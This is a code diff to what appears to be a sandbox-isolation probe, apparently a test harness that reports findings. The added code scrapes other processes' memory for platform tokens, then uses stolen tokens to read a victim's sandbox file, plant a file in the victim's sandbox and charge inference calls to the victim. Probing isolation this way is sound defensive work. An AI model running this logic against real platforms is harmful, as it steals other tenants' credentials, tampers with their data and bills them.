@@ -149,7 +149,7 @@ def read_foreign_memory(orders: Orders) -> Finding:
     """Open ``/proc/<pid>/mem`` of processes it did not start (those whose argv carries a
     marker of ``orders["memory_markers"]``: the gateway, another competitor) and read their
     writable memory, looking for secrets (another client's message, a live token)."""
-    secrets, opened, found, total = orders["secrets"], [], {}, 0
+    secrets, opened, found, tokens, total = orders["secrets"], [], {}, set(), 0
     for pid in _marked(orders["memory_markers"]):
         maps = (_read(f"/proc/{pid}/maps") or b"").decode(errors="replace").splitlines()
         try:
@@ -174,11 +174,15 @@ def read_foreign_memory(orders: Orders) -> Finding:
                 scanned += len(data)
                 for name in _secrets_in(data, secrets):
                     found.setdefault(name, pid)
+                tokens |= _foreign_tokens(data, orders)
         if scanned:
             opened.append(pid)
             total += scanned
-    detail = f"read {total} bytes of {len(opened)} foreign processes; secrets: {sorted(found)}"
-    return _finding(bool(opened), detail, pids=opened, secrets=found)
+    detail = (
+        f"read {total} bytes of {len(opened)} foreign processes; secrets: {sorted(found)}; "
+        f"{len(tokens)} platform token(s)"
+    )
+    return _finding(bool(opened), detail, pids=opened, secrets=found, tokens=sorted(tokens))
 
 
 # Host files ------------------------------------------------------------------------------
@@ -458,23 +462,28 @@ def _platform_call(
 
 
 def use_stolen_tokens(orders: Orders) -> Finding:
-    """Look for other holders' tokens (argv, environ) and spend them: read the victim's
-    sandbox file (``orders["victim_file"]``) in every sandbox id seen on an argv, and charge
-    an inference call to the victim's meter."""
+    """Look for other holders' tokens (argv, environ, memory) and spend them: in every
+    sandbox id seen on an argv, read the victim's file (``orders["victim_file"]``) and
+    plant one for the victim to deliver; and charge an inference call to its meter."""
     cmdline, environ = steal_cmdline(orders), steal_environ(orders)
-    tokens = sorted(set(cmdline["tokens"]) | set(environ["tokens"]))
+    memory = read_foreign_memory(orders) if orders.get("memory_markers") else {"tokens": []}
+    tokens = sorted(set(cmdline["tokens"]) | set(environ["tokens"]) | set(memory["tokens"]))
     stolen: list[str] = []
     for token in tokens:
         for sandbox_id in cmdline["sandboxes"]:
+            one = f"/sandbox/api/sandboxes/{sandbox_id}"
             file = quote(orders["victim_file"])
-            path = f"/sandbox/api/sandboxes/{sandbox_id}/files/read?path={file}"
-            status, body = _platform_call(orders, token, "GET", path)
+            status, body = _platform_call(orders, token, "GET", f"{one}/files/read?path={file}")
             if status == 200:
                 stolen.append(f"read {sandbox_id}:{orders['victim_file']}: {body[:200]!r}")
+            plant = {"path": "artifacts/planted.txt", "content": "planted by an attacker"}
+            status, _ = _platform_call(orders, token, "POST", f"{one}/files/write", plant)
+            if status == 200:
+                stolen.append(f"planted artifacts/planted.txt in {sandbox_id}")
         chat = {"model": orders["inference_model"], "messages": [{"role": "user", "content": "hi"}]}
         status, _ = _platform_call(orders, token, "POST", "/v1/chat/completions", chat)
         if status == 200:
-            stolen.append("charged an inference call to the victim")
+            stolen.append("charged an inference call to the token's holder")
     detail = f"{len(tokens)} foreign token(s) found; {stolen or 'none used'}"
     return _finding(bool(stolen), detail, used=stolen, tokens=len(tokens))
 
